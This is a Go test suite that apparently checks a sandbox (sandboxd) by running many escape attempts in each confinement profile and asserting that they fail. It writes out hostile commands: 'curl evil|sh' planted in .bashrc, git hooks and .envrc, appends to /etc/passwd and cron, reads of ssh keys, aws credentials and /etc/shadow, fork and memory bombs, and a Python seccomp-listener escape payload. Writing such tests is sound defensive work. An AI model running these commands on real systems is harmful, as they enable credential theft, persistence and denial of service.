//go:build linux && amd64

package escape

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

var (
	// every profile but trusted: nothing outside the workspace is writable
	// and no secret is readable in any of them.
	confined = []string{"offline", "net-readonly", "workspace-write", "workspace-net"}
	// the profiles without network.
	offline = []string{"offline", "workspace-write"}
	// the profiles with a writable workspace.
	writable = []string{"workspace-write", "workspace-net"}
)

// attack is one real attack and the check that its effect did not happen.
type attack struct {
	name     string
	profiles []string
	run      func(t *testing.T, w *world, profile string)
}

// py runs python3 with a script (the system's, at a path the sandbox shows).
func py(script string) []string { return []string{"/usr/bin/python3", "-c", script} }

// errnoOf is a python snippet that calls a raw syscall and prints its errno.
func errnoOf(nr int, args ...string) []string {
	a := strings.Join(append([]string{strconv.Itoa(nr)}, args...), ", ")
	return py(fmt.Sprintf("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\nr = libc.syscall(%s)\nprint('ret=%%d errno=%%d' %% (r, ctypes.get_errno()))", a))
}

// supervisorAttack tries to open the init's descriptors, then to install
// a seccomp filter with a listener that hands it unshare, once now and, in
// an orphan, until the run ends; with a listener it lets unshare through
// and writes the marker.
const supervisorAttack = `import ctypes, os, struct, threading
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
class Fprog(ctypes.Structure):
    _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_void_p)]
ins = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *i) for i in
    [(0x20, 0, 0, 0), (0x15, 0, 1, 272), (0x06, 0, 0, 0x7fc00000), (0x06, 0, 0, 0x7fff0000)]))
prog = Fprog(4, ctypes.cast(ins, ctypes.c_void_p))
def serve(fd):
    while True:
        req = ctypes.create_string_buffer(80)
        if libc.syscall(16, fd, ctypes.c_ulong(0xc0502100), req) != 0:
            continue
        resp = ctypes.create_string_buffer(struct.pack("QqiI", struct.unpack_from("Q", req, 0)[0], 0, 0, 1))
        libc.syscall(16, fd, ctypes.c_ulong(0xc0182101), resp)
def listen(marker):
    fd = libc.syscall(317, 1, 8, ctypes.byref(prog))
    if fd >= 0:
        print("LISTENER", flush=True)
        threading.Thread(target=serve, args=(fd,), daemon=True).start()
        if libc.syscall(272, 0x10000000) == 0:
            open(marker, "w").write("ESCAPED")
    return fd
def attack(marker):
    took = []
    for n in os.listdir("/proc/1/fd"):
        try:
            os.open("/proc/1/fd/" + n, os.O_RDONLY)
            took.append(n)
        except OSError:
            pass
    print("took", took)
    ctypes.set_errno(0)
    r = listen(marker)
    print("ret=%d errno=%d" % (r, ctypes.get_errno()), flush=True)
    if os.fork() == 0:
        os.setsid()
        while listen(marker) < 0:
            pass
        os._exit(0)
`

func wantEPERM(t *testing.T, r result) {
	t.Helper()
	if !strings.Contains(r.stdout, "ret=-1 errno=1\n") {
		t.Fatalf("the call was not refused with EPERM:\n%s", r)
	}
}

var attacks = []attack{
	// Writes outside the workspace.
	{"write canary by absolute path", confined, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("echo pwned > "+w.canary))
		unchanged(t, w.canary, canaryText)
	}},
	{"write canary through ..", confined, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("cd "+w.ws+" && echo pwned > ../outside/canary.txt; echo pwned > src/../../outside/new.txt"))
		unchanged(t, w.canary, canaryText)
		absent(t, filepath.Join(w.outside, "new.txt"))
	}},
	{"write through a symlink planted in the workspace", confined, func(t *testing.T, w *world, p string) {
		os.Symlink(w.outside, filepath.Join(w.ws, "planted"))
		w.run(t, p, sh("echo pwned > planted/canary.txt; echo pwned > planted/new.txt"))
		unchanged(t, w.canary, canaryText)
		absent(t, filepath.Join(w.outside, "new.txt"))
	}},
	{"plant a symlink and write through it", writable, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("ln -s "+w.outside+" mine && echo pwned > mine/canary.txt; ln -s "+w.canary+" direct && echo pwned > direct"))
		unchanged(t, w.canary, canaryText)
	}},
	{"hardlink the canary into the workspace", writable, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, sh("ln "+w.canary+" hl && echo pwned >> hl; echo rc=$?"))
		unchanged(t, w.canary, canaryText)
		if !strings.Contains(r.stderr, "ln:") {
			t.Fatalf("ln succeeded:\n%s", r)
		}
	}},
	{"chmod, chown, touch, truncate, xattr on the canary", confined, func(t *testing.T, w *world, p string) {
		before, _ := os.Stat(w.canary)
		w.run(t, p, sh("chmod 777 "+w.canary+"; chown 65534 "+w.canary+"; touch -d 2001-01-01 "+w.canary+"; truncate -s 0 "+w.canary+
			"; setfattr -n user.pwned -v 1 "+w.canary))
		after, _ := os.Stat(w.canary)
		unchanged(t, w.canary, canaryText)
		st := after.Sys().(*syscall.Stat_t)
		if after.Mode() != before.Mode() || !after.ModTime().Equal(before.ModTime()) || st.Uid != 0 {
			t.Fatalf("canary metadata changed: %v %v uid %d", after.Mode(), after.ModTime(), st.Uid)
		}
		if n, _ := syscall.Getxattr(w.canary, "user.pwned", make([]byte, 8)); n > 0 {
			t.Fatal("xattr set on the canary")
		}
	}},
	{"move or delete the canary", confined, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("mv "+w.canary+" ./stolen; rm -f "+w.canary+"; rm -rf "+w.outside))
		unchanged(t, w.canary, canaryText)
	}},
	{"write MOAT_HOME's audit segments", confined, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("echo forged >> "+filepath.Join(w.moatHome, "audit", "seg-0")+"; rm -rf "+filepath.Join(w.moatHome, "audit")))
		unchanged(t, filepath.Join(w.moatHome, "audit", "seg-0"), "audit segment\n")
	}},
	{"create a device node", confined, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, sh("mknod node b 8 0 && echo CREATED; mknod /tmp/node c 1 3 && echo CREATED"))
		if strings.Contains(r.stdout, "CREATED") {
			t.Fatalf("mknod worked:\n%s", r)
		}
		absent(t, filepath.Join(w.ws, "node"))
	}},
	{"write the sysrq trigger", confined, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, sh("echo h > /proc/sysrq-trigger && echo WROTE"))
		if strings.Contains(r.stdout, "WROTE") {
			t.Fatalf("sysrq-trigger written:\n%s", r)
		}
	}},
	{"write system files: passwd, local bin, cron", confined, func(t *testing.T, w *world, p string) {
		passwd, _ := os.ReadFile("/etc/passwd")
		w.run(t, p, sh("echo 'pwned:x:0:0::/:/bin/sh' >> /etc/passwd; cp /bin/true /usr/local/bin/moat-pwned; echo '* * * * * root id' > /etc/cron.d/moat-pwned"))
		unchanged(t, "/etc/passwd", string(passwd))
		absent(t, "/usr/local/bin/moat-pwned")
		absent(t, "/etc/cron.d/moat-pwned")
	}},
	{"write dotfiles in the home: .bashrc, authorized_keys", confined, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("echo 'curl evil|sh' >> "+w.home+"/.bashrc; echo 'ssh-ed25519 AAAA evil' >> "+w.home+"/.ssh/authorized_keys"))
		absent(t, filepath.Join(w.home, ".bashrc"))
		absent(t, filepath.Join(w.home, ".ssh", "authorized_keys"))
	}},
	{"overwrite sandboxd itself", confined, func(t *testing.T, w *world, p string) {
		before, _ := os.ReadFile(sandboxd)
		w.run(t, p, sh("cp /bin/true "+sandboxd+"; echo x >> "+sandboxd))
		after, _ := os.ReadFile(sandboxd)
		if string(before) != string(after) {
			t.Fatal("the sandboxd binary changed")
		}
	}},
	{"read the shadow file and raw disks", confined, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, sh("cat /etc/shadow; echo; for d in /dev/sda /dev/vda /dev/nvme0n1 /dev/mem /dev/kmem; do head -c 512 $d 2>/dev/null; done | wc -c"))
		if strings.Contains(r.stdout, "root:") {
			t.Fatalf("/etc/shadow was read:\n%s", r)
		}
		if !strings.HasSuffix(r.stdout, "\n0\n") {
			t.Fatalf("a raw device was read:\n%s", r)
		}
	}},
	{"an ssh-agent socket in a hidden directory", confined, func(t *testing.T, w *world, p string) {
		sock := filepath.Join(w.home, ".ssh", "agent.sock")
		l, err := net.Listen("unix", sock)
		if err != nil {
			t.Fatal(err)
		}
		defer l.Close()
		var reached atomic.Int64
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				reached.Add(1)
				c.Close()
			}
		}()
		w.run(t, p, sh("echo hi | socat - UNIX-CONNECT:"+sock+"; SSH_AUTH_SOCK="+sock+" ssh-add -l"))
		if reached.Load() != 0 {
			t.Fatalf("the agent socket was reached %d times", reached.Load())
		}
	}},
	{"chroot, pivot_root, kexec and kernel modules", confined, func(t *testing.T, w *world, p string) {
		for _, call := range [][]string{{"161", "ctypes.c_char_p(b'/tmp')"}, {"155", "ctypes.c_char_p(b'/')", "ctypes.c_char_p(b'/tmp')"}, {"246", "0", "0", "0", "0"}, {"175", "0", "0", "0"}, {"313", "0", "0", "0"}} {
			nr, _ := strconv.Atoi(call[0])
			wantEPERM(t, w.run(t, p, errnoOf(nr, call[1:]...)))
		}
	}},
	{"set the clock and the hostname", confined, func(t *testing.T, w *world, p string) {
		host, _ := os.Hostname()
		w.run(t, p, sh("date -s '2001-01-01 00:00:00'; hostname pwned; echo pwned > /proc/sys/kernel/hostname"))
		if now, _ := os.Hostname(); now != host || time.Now().Year() < 2025 {
			t.Fatalf("host clock or name changed: %s %v", now, time.Now())
		}
	}},
	{"a host System V shared memory segment", confined, func(t *testing.T, w *world, p string) {
		id, err := unix.SysvShmGet(0x6d6f6174, 4096, unix.IPC_CREAT|0o666)
		if err != nil {
			t.Fatal(err)
		}
		defer unix.SysvShmCtl(id, unix.IPC_RMID, nil)
		r := w.run(t, p, sh("ipcs -m"))
		if strings.Contains(r.stdout, "6d6f6174") {
			t.Fatalf("the host segment is visible:\n%s", r)
		}
	}},
	// Protected paths inside a writable workspace.
	{"write a git hook", writable, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit"))
		absent(t, filepath.Join(w.ws, ".git", "hooks", "pre-commit"))
	}},
	{"change .git/config", writable, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("git config core.hooksPath /tmp/evil; echo '[core] fsmonitor = evil' >> .git/config; sed -i s/bare/evil/ .git/config"))
		unchanged(t, filepath.Join(w.ws, ".git", "config"), "[core]\n\tbare = false\n")
	}},
	{"rename the hooks directory around", writable, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("mv .git/hooks .git/hooks.old; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit"))
		absent(t, filepath.Join(w.ws, ".git", "hooks", "pre-commit"))
		absent(t, filepath.Join(w.ws, ".git", "hooks.old"))
	}},
	{"rename .git around and rebuild it with a hook", writable, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("mv .git .git2 && cp -a .git2 .git && echo evil > .git/hooks/pre-commit"))
		absent(t, filepath.Join(w.ws, ".git", "hooks", "pre-commit"))
		absent(t, filepath.Join(w.ws, ".git2"))
		unchanged(t, filepath.Join(w.ws, ".git", "HEAD"), "ref: refs/heads/main\n")
	}},
	{"create .envrc and .vscode settings", writable, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("echo 'curl evil|sh' > .envrc; mkdir -p .vscode; echo '{}' > .vscode/settings.json; echo 'profile=\"trusted\"' > .moat-profile"))
		absent(t, filepath.Join(w.ws, ".envrc"))
		absent(t, filepath.Join(w.ws, ".vscode"))
		absent(t, filepath.Join(w.ws, ".moat-profile"))
	}},
	{"write a protected path left as a link to nothing", writable, func(t *testing.T, w *world, p string) {
		// .envrc -> ./envrc-target, dangling: written through, the link
		// would give direnv on the host a script. The run is refused.
		link, target := filepath.Join(w.ws, ".envrc"), filepath.Join(w.ws, "envrc-target")
		if err := os.Symlink("./envrc-target", link); err != nil {
			t.Fatal(err)
		}
		defer os.Remove(link)
		out, _ := w.exec(p, sh("echo 'curl evil|sh' > .envrc")).CombinedOutput()
		absent(t, target)
		if !strings.Contains(string(out), "link to nothing") {
			t.Errorf("want the run refused, naming the link:\n%s", out)
		}
	}},
	{"replace a protected path that is a link", writable, func(t *testing.T, w *world, p string) {
		// .envrc -> envrc.real: the read-only mount holds envrc.real, the
		// link is a name the run could remove and write anew. Refused.
		link, real := filepath.Join(w.ws, ".envrc"), filepath.Join(w.ws, "envrc.real")
		os.WriteFile(real, []byte("ok\n"), 0o644)
		if err := os.Symlink("envrc.real", link); err != nil {
			t.Fatal(err)
		}
		defer os.Remove(real)
		defer os.Remove(link)
		out, _ := w.exec(p, sh("rm -f .envrc && echo 'curl evil|sh' > .envrc")).CombinedOutput()
		if fi, err := os.Lstat(link); err != nil || fi.Mode()&os.ModeSymlink == 0 {
			t.Errorf(".envrc was replaced (%v)", err)
		}
		if !strings.Contains(string(out), "is a link, which the run could replace") {
			t.Errorf("want the run refused, naming the link:\n%s", out)
		}
	}},
	// Secrets.
	{"read the ssh key and the aws credentials", confined, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, sh("cat "+w.home+"/.ssh/id_rsa "+w.home+"/.aws/credentials; cat ~/.ssh/id_rsa; grep -r canary- "+w.home))
		notLeaked(t, r, sshSecret, awsSecret)
	}},
	{"read moat's own credentials", append(confined, "trusted"), func(t *testing.T, w *world, p string) {
		flags := []string{}
		if p == "trusted" {
			flags = append(flags, "--allow-trusted")
		}
		r := w.run(t, p, sh("cat "+filepath.Join(w.moatHome, "creds", "client.nk")+"; grep -r SUA "+w.moatHome), flags...)
		notLeaked(t, r, credsSecret)
	}},
	{"find and read every key", confined, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, sh("find / -xdev \\( -name id_rsa -o -name credentials -o -name '*.nk' \\) -exec cat {} + 2>/dev/null"))
		notLeaked(t, r, sshSecret, awsSecret, credsSecret)
	}},
	{"read secrets through proc 1 root", confined, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, sh("cat /proc/1/root"+w.home+"/.ssh/id_rsa; cat /proc/1/root"+w.canary))
		notLeaked(t, r, sshSecret)
	}},
	{"read a host process's environment", confined, func(t *testing.T, w *world, p string) {
		v := victim(t)
		r := w.run(t, p, sh(fmt.Sprintf("cat /proc/%d/environ; cat /proc/*/environ", v.Process.Pid)))
		notLeaked(t, r, envSecret)
	}},
	{"secrets in the environment", append(confined, "trusted"), func(t *testing.T, w *world, p string) {
		flags := []string{"--env", "NPM_TOKEN=" + envSecret, "--env", "OPENAI_API_KEY=" + envSecret, "--env", "DB_PASSWORD=" + envSecret}
		if p == "trusted" {
			flags = append(flags, "--allow-trusted")
		}
		r := w.run(t, p, []string{"/usr/bin/env"}, flags...)
		notLeaked(t, r, envSecret)
		if !strings.Contains(r.stdout, "PATH=") {
			t.Fatalf("env did not run:\n%s", r)
		}
	}},
	{"inherited descriptors", confined, func(t *testing.T, w *world, p string) {
		f, err := os.Open(filepath.Join(w.home, ".ssh", "id_rsa"))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		cmd := w.exec(p, sh("cat <&3; cat /proc/self/fd/3; for fd in 3 4 5 6 7 8 9; do cat /proc/self/fd/$fd; done; ls -l /proc/self/fd"))
		cmd.ExtraFiles = []*os.File{f}
		r := w.runCmd(t, cmd)
		notLeaked(t, r, sshSecret)
	}},
	// Network without network.
	{"curl, wget and nc to a host service", offline, func(t *testing.T, w *world, p string) {
		srv := listenTCP(t, "tcp4", "127.0.0.1:0")
		r := w.run(t, p, sh(fmt.Sprintf("curl -s -m 2 http://%s/; wget -q -t 1 -T 2 -O- http://%s/; echo hi | nc -w 2 127.0.0.1 %s", srv.addr, srv.addr, srv.port)))
		if srv.count.Load() != 0 || strings.Contains(r.stdout, "HOST-SERVICE-REACHED") {
			t.Fatalf("the host service was reached %d times:\n%s", srv.count.Load(), r)
		}
	}},
	{"python socket and bash dev tcp", offline, func(t *testing.T, w *world, p string) {
		srv := listenTCP(t, "tcp4", "127.0.0.1:0")
		w.run(t, p, py(fmt.Sprintf("import socket\ntry:\n  socket.create_connection(('127.0.0.1', %s), 2)\nexcept Exception as e:\n  print(e)", srv.port)))
		w.run(t, p, sh(fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%s && echo hi >&3", srv.port)))
		if srv.count.Load() != 0 {
			t.Fatalf("the host service was reached %d times", srv.count.Load())
		}
	}},
	{"UDP and DNS", offline, func(t *testing.T, w *world, p string) {
		u := listenUDP(t)
		w.run(t, p, sh(fmt.Sprintf("echo hi > /dev/udp/127.0.0.1/%s; echo hi | nc -u -w1 127.0.0.1 %s", u.port, u.port)))
		w.run(t, p, py(fmt.Sprintf("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01', ('127.0.0.1', %s))", u.port)))
		r := w.run(t, p, sh("getent hosts example.com && echo RESOLVED"))
		if u.count.Load() != 0 || strings.Contains(r.stdout, "RESOLVED") {
			t.Fatalf("%d datagrams arrived; %s", u.count.Load(), r)
		}
	}},
	{"IPv6", offline, func(t *testing.T, w *world, p string) {
		srv := listenTCP(t, "tcp6", "[::1]:0")
		w.run(t, p, sh(fmt.Sprintf("curl -s -m 2 http://[::1]:%s/; echo hi | nc -6 -w 2 ::1 %s", srv.port, srv.port)))
		if srv.count.Load() != 0 {
			t.Fatalf("the host service was reached over IPv6 %d times", srv.count.Load())
		}
	}},
	{"a host process's abstract unix socket", confined, func(t *testing.T, w *world, p string) {
		a := listenAbstract(t)
		w.run(t, p, py(fmt.Sprintf("import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n  s.connect('\\0%s')\n  print('CONNECTED')\nexcept Exception as e:\n  print(e)", a.name)))
		w.run(t, p, sh("socat -u - ABSTRACT-CONNECT:"+a.name+" </dev/null"))
		if a.count.Load() != 0 {
			t.Fatalf("the abstract socket was reached %d times", a.count.Load())
		}
	}},
	// Processes.
	{"ptrace a host process and a child", confined, func(t *testing.T, w *world, p string) {
		v := victim(t)
		r := w.run(t, p, py(fmt.Sprintf("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nprint('host', libc.ptrace(16, %d, 0, 0), ctypes.get_errno())\npid = os.fork()\nif pid == 0:\n  import time; time.sleep(5); os._exit(0)\nr = libc.ptrace(16, pid, 0, 0)\nprint('ret=%%d errno=%%d' %% (r, ctypes.get_errno()))\nos.kill(pid, 9)", v.Process.Pid)))
		if tp := strings.TrimSpace(tracerPid(v.Process.Pid)); tp != "0" {
			t.Fatalf("the host process is traced by %s", tp)
		}
		wantEPERM(t, r)
	}},
	{"kill a host process", confined, func(t *testing.T, w *world, p string) {
		v := victim(t)
		w.run(t, p, sh(fmt.Sprintf("kill -9 %d; kill -9 -1", v.Process.Pid)))
		time.Sleep(50 * time.Millisecond)
		if !victimAlive(v) {
			t.Fatal("the host process was killed")
		}
	}},
	{"signal sandboxd", writable, func(t *testing.T, w *world, p string) {
		pidfile := filepath.Join(w.ws, "sandboxd.pid")
		cmd := w.exec(p, sh("for i in $(seq 100); do [ -s sandboxd.pid ] && break; sleep 0.05; done; kill -TERM $(cat sandboxd.pid); kill -KILL $(cat sandboxd.pid); echo done"))
		done := make(chan result, 1)
		go func() { done <- w.runCmd(t, cmd) }()
		for cmd.Process == nil {
			time.Sleep(time.Millisecond)
		}
		os.WriteFile(pidfile, []byte(strconv.Itoa(cmd.Process.Pid)), 0o644)
		r := <-done
		if r.code != 0 || !strings.Contains(r.stdout, "done") {
			t.Fatalf("sandboxd did not finish the run normally:\n%s", r)
		}
	}},
	{"mount", confined, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, sh("mount -t tmpfs moatattack /tmp; mount --bind / /tmp; grep -q moatattack /proc/self/mountinfo && echo MOUNTED"))
		if strings.Contains(r.stdout, "MOUNTED") {
			t.Fatalf("mounted:\n%s", r)
		}
		wantEPERM(t, w.run(t, p, errnoOf(165, "0", "0", "0", "0", "0")))
	}},
	{"unshare and setns", confined, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, sh("unshare -Ur sh -c 'echo ESCAPED'; unshare -m sh -c 'echo ESCAPED'; nsenter -t 1 -m -- sh -c 'echo ESCAPED'"))
		if strings.Contains(r.stdout, "ESCAPED") {
			t.Fatalf("a namespace was entered:\n%s", r)
		}
		wantEPERM(t, w.run(t, p, errnoOf(272, "0x10000000")))
		wantEPERM(t, w.run(t, p, errnoOf(308, "0", "0")))
	}},
	{"a setuid binary", []string{"workspace-write"}, func(t *testing.T, w *world, p string) {
		// The workspace belongs to nobody, so the command runs as nobody.
		filepath.Walk(w.ws, func(path string, _ os.FileInfo, _ error) error { return os.Lchown(path, 65534, 65534) })
		data, _ := os.ReadFile("/usr/bin/id")
		suid := filepath.Join(w.ws, "suid-id")
		os.WriteFile(suid, data, 0o755)
		os.Chown(suid, 0, 0)
		os.Chmod(suid, 0o4755|os.ModeSetuid)
		r := w.run(t, p, sh("./suid-id -u; id -u"))
		if r.stdout != "65534\n65534\n" {
			t.Fatalf("want both ids 65534 (the workspace owner), got:\n%s", r)
		}
	}},
	{"keyctl, bpf, io_uring, perf_event_open, userfaultfd", confined, func(t *testing.T, w *world, p string) {
		for _, call := range [][]string{
			{"250", "0", "0", "0", "0"},        // keyctl
			{"248", "0", "0", "0", "0"},        // add_key
			{"321", "0", "0", "0"},             // bpf
			{"425", "1", "0"},                  // io_uring_setup
			{"298", "0", "0", "-1", "-1", "0"}, // perf_event_open
			{"323", "0"},                       // userfaultfd
			{"304", "0", "0", "0"},             // open_by_handle_at
		} {
			nr, _ := strconv.Atoi(call[0])
			wantEPERM(t, w.run(t, p, errnoOf(nr, call[1:]...)))
		}
	}},
	{"TIOCSTI and TIOCLINUX, high bits included", confined, func(t *testing.T, w *world, p string) {
		for _, req := range []string{"0x5412", "0x100005412", "0x541C"} {
			wantEPERM(t, w.run(t, p, errnoOf(16, "0", req, "ctypes.c_char_p(b'x')")))
		}
	}},
	{"a 32-bit syscall through int 0x80", writable, func(t *testing.T, w *world, p string) {
		data, _ := os.ReadFile(int80)
		os.WriteFile(filepath.Join(w.ws, "int80"), data, 0o755)
		marker := filepath.Join(w.ws, "int80-marker")
		r := w.run(t, p, []string{"./int80", marker})
		absent(t, marker)
		if r.code != 128+31 {
			t.Fatalf("want death by SIGSYS (159):\n%s", r)
		}
	}},
	{"clone with namespace flags", confined, func(t *testing.T, w *world, p string) {
		wantEPERM(t, w.run(t, p, errnoOf(56, "0x10000000", "0", "0", "0", "0"))) // clone(CLONE_NEWUSER)
	}},
	{"the seccomp supervisor: take its listener, or install one's own", writable, func(t *testing.T, w *world, p string) {
		// A listener of the command's own, newer than the sandbox's filter,
		// would be handed the calls the sandbox refuses once the init's
		// listener closes at the run's end: an orphan keeps trying, and
		// lets unshare through if it ever gets one.
		marker := filepath.Join(w.ws, "supervisor-marker")
		r := w.run(t, p, py(supervisorAttack+fmt.Sprintf("attack(%q)\n", marker)))
		if !strings.Contains(r.stdout, "took []\n") || strings.Contains(r.stdout, "LISTENER") {
			t.Fatalf("the init's descriptors were reached, or a listener installed:\n%s", r)
		}
		wantEPERM(t, r)
		absent(t, marker)
	}},
	// Resources.
	{"a fork bomb", []string{"workspace-write"}, func(t *testing.T, w *world, p string) {
		start := time.Now()
		w.run(t, p, sh("moatbomb(){ moatbomb|moatbomb& };moatbomb; sleep 30"), "--timeout", "3s")
		if time.Since(start) > 20*time.Second {
			t.Fatalf("the bomb ran for %v", time.Since(start))
		}
		time.Sleep(100 * time.Millisecond)
		if alive("moatbomb") {
			t.Fatal("bomb processes survived the run")
		}
		t0 := time.Now()
		if err := exec_true(); err != nil || time.Since(t0) > 2*time.Second {
			t.Fatalf("the machine is not responsive: %v after %v", err, time.Since(t0))
		}
	}},
	{"a memory bomb", []string{"workspace-write"}, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, py("x = bytearray(3 << 30)\nprint('ALLOCATED')"), "--timeout", "30s")
		if strings.Contains(r.stdout, "ALLOCATED") || r.code != 137 || !strings.Contains(r.stderr, "out of memory") {
			t.Fatalf("want a kill for memory, reported:\n%s", r)
		}
	}},
	{"fill the private tmp", []string{"offline"}, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, sh("dd if=/dev/zero of=/tmp/moat-fill bs=1M count=1100 status=none; echo rc=$?; ls -la /tmp/moat-fill"), "--timeout", "30s")
		absent(t, "/tmp/moat-fill")
		if strings.Contains(r.stdout, "rc=0") {
			t.Fatalf("1100 MiB fit in the private /tmp:\n%s", r)
		}
	}},
	{"outlive the run: setsid, double fork, nohup", confined, func(t *testing.T, w *world, p string) {
		w.run(t, p, sh("setsid sleep 987.651 & (sh -c 'sleep 987.652 &' &); nohup sleep 987.653 >/dev/null 2>&1 & echo started"))
		time.Sleep(100 * time.Millisecond)
		for _, m := range []string{"987.651", "987.652", "987.653"} {
			if alive("sleep " + m) {
				t.Fatalf("sleep %s outlived the run", m)
			}
		}
	}},
	{"outlive the timeout", []string{"workspace-write"}, func(t *testing.T, w *world, p string) {
		r := w.run(t, p, sh("setsid sleep 987.654 & nohup sleep 987.655 & sleep 1000"), "--timeout", "1s")
		time.Sleep(100 * time.Millisecond)
		if alive("987.654") || alive("987.655") || alive("sleep 1000") || !strings.Contains(r.stderr, "timeout") {
			t.Fatalf("something outlived the timeout:\n%s", r)
		}
	}},
}

func exec_true() error {
	pid, err := syscall.ForkExec("/bin/true", []string{"true"}, nil)
	if err != nil {
		return err
	}
	var ws syscall.WaitStatus
	_, err = syscall.Wait4(pid, &ws, 0, nil)
	return err
}

// TestEscapes runs every attack in every profile where it must fail.
func TestEscapes(t *testing.T) {
	n := 0
	for _, a := range attacks {
		for _, p := range a.profiles {
			n++
			t.Run(a.name+"/"+p, func(t *testing.T) {
				a.run(t, newWorld(t), p)
			})
		}
	}
	t.Logf("%d attacks, %d runs", len(attacks), n)
}
